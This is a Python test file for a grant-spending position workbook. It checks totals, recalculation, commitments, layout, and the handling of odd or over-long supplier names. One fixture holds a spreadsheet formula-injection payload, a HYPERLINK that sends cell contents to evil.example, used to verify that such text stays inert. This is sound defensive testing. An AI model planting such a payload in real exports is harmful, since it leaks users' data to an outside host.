"""The position workbook read back: its totals (recalculated by LibreOffice), its sheets, and
hostile text that stays text."""

from __future__ import annotations

import dataclasses
import datetime as dt
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from python_calamine import CalamineWorkbook

from pipeline.commitments import commitments
from pipeline.ledger import read_ledgers
from pipeline.position import Position, build_position
from pipeline.render_position import position_name, render_position
from pipeline.textsafe import CUT_NOTE, MAX_CELL_TEXT
from tests.make_ledger import write_ledger
from tests.office import convert
from tests.test_position import sample_with_cost_codes

INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture(scope="module")
def position(tmp_path_factory: pytest.TempPathFactory) -> Position:
    folder = tmp_path_factory.mktemp("ledger")
    ledger = write_ledger(folder / "ledger-2021-22.csv")
    with ledger.open("a", encoding="utf-8") as handle:
        handle.write(f'01/09/2021,"{INJECTION.replace(chr(34), chr(34) * 2)}",700.00,T9,,,\n')
    read = read_ledgers([ledger])
    built = build_position(sample_with_cost_codes(), read.payments)
    assert built is not None
    return built


@pytest.fixture(scope="module")
def workbook(position: Position, tmp_path_factory: pytest.TempPathFactory) -> Path:
    target = tmp_path_factory.mktemp("position") / position_name(position)
    render_position(position, commitments(position.plan), target)
    return target


def values(path: Path, sheet: str) -> list[list[object]]:
    book = CalamineWorkbook.from_path(str(path))
    try:
        return [list(row) for row in book.get_sheet_by_name(sheet).to_python()]
    finally:
        book.close()


def total_row(rows: list[list[object]], label: str = "Total") -> list[object]:
    return next(row for row in rows if row and row[0] == label)


def pounds(value: object) -> Decimal:
    return Decimal(str(value)).quantize(Decimal("0.01"))


def test_the_name_carries_the_reference_and_the_as_at_date(position: Position) -> None:
    assert position_name(position) == "position-015-2021-2021-09-30.xlsx"


def test_the_workbook_says_its_language(workbook: Path) -> None:
    # WCAG 3.1.1: the CFO's screen reader and the PDF made from the workbook take the language
    # from docProps/core.xml (dc:language), as the public summary's; xlsxwriter writes none.
    assert openpyxl.load_workbook(workbook).properties.language == "en-GB"


def test_totals_are_formulas_with_cached_values(workbook: Path, position: Position) -> None:
    formulas = openpyxl.load_workbook(workbook)["Lines"]
    total = next(r for r in formulas.iter_rows() if r[0].value == "Total")
    assert str(total[7].value).startswith("=SUM(H4:H")
    lines = total_row(values(workbook, "Lines"))
    # The lines' spend and the payments counted to a fund but to none of its lines (LPFT's,
    # ambiguous between two Victims Fund lines): the Summary's spent to date.
    assert pounds(lines[7]) == position.spent
    unassigned = sum((f.unassigned for f in position.funds), Decimal(0))
    assert unassigned > 0
    assert position.spent == sum((p.spent for p in position.lines), Decimal(0)) + unassigned
    assert pounds(lines[9]) == sum((p.forecast for p in position.lines), Decimal(0))
    summary = total_row(values(workbook, "Summary"))
    assert pounds(summary[3]) == position.spent == Decimal("471924.23")


@pytest.mark.slow
def test_libreoffice_recalculates_to_the_same_totals(workbook: Path, tmp_path: Path) -> None:
    recalculated = convert(workbook, "xlsx", tmp_path / "recalc")
    for sheet in ("Summary", "Lines", "Payments to check", "Commitments"):
        ours = [row for row in values(workbook, sheet) if row and row[0] == "Total"]
        theirs = [row for row in values(recalculated, sheet) if row and row[0] == "Total"]
        assert ours and len(ours) == len(theirs), sheet
        for mine, office in zip(ours, theirs, strict=True):
            numbers = [
                (pounds(a), pounds(b))
                for a, b in zip(mine, office, strict=False)
                if isinstance(a, (int, float)) and not isinstance(a, bool)
            ]
            assert numbers and all(a == b for a, b in numbers), (sheet, numbers)


def test_the_grant_return_and_the_ring_fenced_stream(workbook: Path) -> None:
    rows = values(workbook, "MoJ grant return")
    stream = next(row for row in rows if row and row[0] == "MoJ Victims' Services Grant")
    assert pounds(stream[2]) == Decimal("884000.00")
    assert pounds(stream[3]) == Decimal("325155.46")
    summary = values(workbook, "Summary")
    ring = next(row for row in summary if row and row[0] == "MoJ Victims' Services Grant")
    assert pounds(ring[4]) == Decimal("80801.36")


def test_commitments_sheet(workbook: Path) -> None:
    rows = values(workbook, "Commitments")
    header = next(row for row in rows if row and row[0] == "Fund")
    assert header[4:9] == ["2022/23", "2023/24", "2024/25", "2025/26", "2026/27"]
    cisva = next(row for row in rows if row and str(row[1]).startswith("Children's Independent"))
    assert [pounds(v) for v in cisva[4:7]] == [
        Decimal("200549.45"),
        Decimal("200549.45"),
        Decimal("100549.45"),
    ]


def test_a_formula_injection_supplier_stays_text(workbook: Path, position: Position) -> None:
    book = openpyxl.load_workbook(workbook)
    sheet = book["Payments to check"]
    cells = [c for row in sheet.iter_rows() for c in row if c.value == INJECTION]
    assert len(cells) == 1
    assert cells[0].data_type == "s"  # a string, not a formula
    assert cells[0].quotePrefix
    finding = next(f for f in position.findings if INJECTION in f.message)
    assert finding.code == "W-SPEND-UNMATCHED"


def test_position_without_ring_fence_or_moj(position: Position, tmp_path: Path) -> None:
    plan = position.plan
    plain = dataclasses.replace(
        position,
        plan=dataclasses.replace(plan, sources=tuple(s for s in plan.sources if not s.is_moj)),
        funds=tuple(dataclasses.replace(f, streams=()) for f in position.funds),
    )
    target = tmp_path / "plain.xlsx"
    render_position(plain, commitments(plain.plan), target)
    rows = values(target, "MoJ grant return")
    assert not any(row and row[0] == "Stream" for row in rows)


def test_a_long_service_name_grows_its_row(workbook: Path) -> None:
    """A name that wraps in its column gets a row tall enough for it: LibreOffice and Excel
    keep a program's row heights, so an unfitted row is covered by the next one."""
    sheet = openpyxl.load_workbook(workbook)["Lines"]
    heights = {
        str(row[1].value): sheet.row_dimensions[row[1].row].height
        for row in sheet.iter_rows(min_row=4)
        if row[1].value
    }
    assert (heights["Children's Independent Sexual Violence Advisor"] or 0) >= 30
    assert heights["Rape Crisis"] is None  # one line: the default height


def test_the_heading_says_how_many_payments_matched_a_line(
    workbook: Path, position: Position
) -> None:
    # "from 91367 payments" read as if all were counted, when most of a force's ledger matched
    # no line: the heading says how many did, with thousands separated.
    heading = values(workbook, "Lines")[1][0]
    assert f"from {position.payments:,} payments of the year, " in str(heading)
    assert f"{len(position.matched):,} of them matched to a line" in str(heading)
    assert 0 < len(position.matched) < position.payments


def test_a_long_supplier_to_check_grows_its_row(tmp_path: Path) -> None:
    """A supplier's name that wraps in Payments to check gets a row tall enough for it: its
    row's height was set for the candidate lines alone, so LibreOffice drew the name's second
    line over the next payment and cut off its end."""
    ledger = tmp_path / "long.csv"
    long_name = "Lincolnshire Community and Voluntary Service Infrastructure Partnership Limited"
    ledger.write_text(
        f"Date,Supplier,Amount\n01/05/2021,{long_name},1000.00\n02/05/2021,Acme,2500.00\n",
        encoding="utf-8",
    )
    built = build_position(sample_with_cost_codes(), read_ledgers([ledger]).payments)
    assert built is not None
    target = tmp_path / position_name(built)
    render_position(built, commitments(built.plan), target)
    sheet = openpyxl.load_workbook(target)["Payments to check"]
    heights = {
        str(row[4].value): sheet.row_dimensions[row[4].row].height
        for row in sheet.iter_rows(min_row=4)
        if row[4].value
    }
    assert (heights[long_name] or 0) >= 45  # three lines in its 30-character column
    assert heights["Acme"] is None  # one line: the default height


def test_a_tall_lines_row_keeps_its_share_and_count_at_its_top(workbook: Path) -> None:
    """In a row grown for a wrapped service name, the % spent and the payments were drawn at
    its bottom (every other cell at the top), where they read as the next line's."""
    sheet = openpyxl.load_workbook(workbook)["Lines"]
    header = next(r for r in sheet.iter_rows(max_row=5) if r[0].value == "Fund")[0].row
    assert header is not None
    rows = [r for r in sheet.iter_rows(min_row=header + 1) if r[0].value and r[8].value]
    assert rows
    for row in rows:
        assert row[8].alignment.vertical == "top", row[1].value  # % spent
        assert row[11].alignment.vertical == "top", row[1].value  # payments
    # "Over (+) / under (-)" wraps in its column: the header row grows, or its second line
    # was drawn over the first line's figures.
    assert (sheet.row_dimensions[header].height or 0) >= 30


def test_each_line_says_how_its_forecast_is_made(tmp_path: Path) -> None:
    """A forecast is made one of several ways: the Lines sheet's last column says which, so
    that a line paid quarterly in advance, forecast at its budget, is not read as the straight
    line the heading once named for every line."""
    target = _rendered(
        tmp_path,
        "Date,Supplier,Amount\n"
        "01/04/2021,Safer Living Foundation,6250.00\n"
        "01/07/2021,Safer Living Foundation,6250.00\n"
        "15/08/2021,Crimestoppers,1000.00\n",
    )
    rows = values(target, "Lines")
    assert "straight line" not in str(rows[1][0])
    header = next(row for row in rows if row[0] == "Fund")
    assert header[12] == "Forecast from"
    said = {str(row[1]): (row[9], row[12]) for row in rows if row[0] != "Fund" and row[12]}
    assert said["Reducing sexual reoffending"] == (
        25000.0,
        "Quarterly instalments: 2 more due by 31/03/2022",
    )
    assert said["Crimestoppers"] == (18075.0, "Budget: paid once so far")
    assert said["Youth Offending Service (YOS)"] == (172900.0, "Budget: nothing spent yet")


def test_the_long_sheets_repeat_their_header_row_on_each_printed_page(workbook: Path) -> None:
    # Payments to check lists every unmatched payment (a whole force's ledger: pages of
    # them): printed, its second page was columns of figures without their headings.
    book = openpyxl.load_workbook(workbook)
    for name in ("Lines", "Payments to check"):
        assert book[name].print_title_rows == "$3:$3", name
        assert book[name]["A3"].value in {"Fund", "Status"}, name


def _commitments_heading(path: Path) -> str:
    return str(values(path, "Commitments")[1][0])


def test_the_commitments_heading_says_the_later_years_are_at_this_years_rate(
    workbook: Path,
) -> None:
    assert "; later years at this year's rate, extension options apart" in (
        _commitments_heading(workbook)
    )


def test_a_multi_year_plans_commitments_heading_says_they_are_its_own_budgets(
    tmp_path: Path,
) -> None:
    # Restorative Justice tapered by the plan to £80,000 and £60,000: the sheet shows them,
    # and its heading said every later year was this year's rate carried on.
    from pipeline.load import load
    from tests.test_read_services import multi_year

    loaded = load(multi_year(tmp_path / "plan.xlsx", {"Restorative Justice": [80000, 60000]}))
    assert loaded.plan is not None, loaded.findings
    read = read_ledgers([write_ledger(tmp_path / "ledger-2021-22.csv")])
    built = build_position(loaded.plan, read.payments)
    assert built is not None
    target = tmp_path / position_name(built)
    render_position(built, commitments(built.plan), target)
    heading = _commitments_heading(target)
    assert "later years as the plan budgets them (at this year's rate where it does not)" in (
        heading
    )
    assert "later years at this year's rate," not in heading


def test_payments_to_check_read_back_as_written(tmp_path: Path) -> None:
    # The rows are written as worksheet XML (a 190,000-row ledger took 12 s cell by cell):
    # each cell reads back in Excel's terms, a name with XML's own characters intact.
    odd = 'Smith & Sons <Training> "Ltd"'
    target = _rendered(
        tmp_path,
        f'Date,Supplier,Amount,Transaction number\n01/05/2021,"{odd.replace(chr(34), 2 * chr(34))}",'
        "-1234.50,R&D 1\n02/05/2021,Acme,0.00,\n",
    )
    sheet = openpyxl.load_workbook(target)["Payments to check"]
    first, second, total = list(sheet.iter_rows(min_row=4))
    assert [c.value for c in first][:9] == [
        "Unmatched",
        "spend.csv",
        "line 2",
        dt.datetime(2021, 5, 1),
        odd,
        -1234.5,
        1,
        "R&D 1",
        None,
    ]
    assert first[3].number_format == "dd/mm/yyyy"
    assert first[5].number_format.startswith("£#,##0.00")
    assert second[4].value == "Acme" and second[7].value is None
    assert total[0].value == "Total" and total[5].value == "=SUM(F4:F5)"


def _rendered(tmp_path: Path, ledger_text: str) -> Path:
    """The sample's position workbook from a ledger ``spend.csv`` of ``ledger_text``."""
    ledger = tmp_path / "spend.csv"
    ledger.write_text(ledger_text, encoding="utf-8")
    built = build_position(sample_with_cost_codes(), read_ledgers([ledger]).payments)
    assert built is not None
    target = tmp_path / position_name(built)
    render_position(built, commitments(built.plan), target)
    return target


def test_a_supplier_longer_than_a_cell_holds_is_cut_and_says_so(tmp_path: Path) -> None:
    """A 40,005-character supplier name (a hostile or broken export) was written whole to
    Payments to check: over Excel's 32,767 characters, so Excel reports unreadable content.
    It is cut, and the cell says so."""
    long_name = ("Acme Training Services " * 1800)[:40_005]
    target = _rendered(tmp_path, f"Date,Supplier,Amount\n01/05/2021,{long_name},1000.00\n")
    sheet = openpyxl.load_workbook(target)["Payments to check"]
    cell = sheet["E4"].value
    assert sheet.row_dimensions[4].height == 409  # Excel's tallest row, not 17,820 points
    assert isinstance(cell, str) and len(cell) <= MAX_CELL_TEXT
    assert cell.endswith(CUT_NOTE) and long_name.startswith(cell.removesuffix(CUT_NOTE))
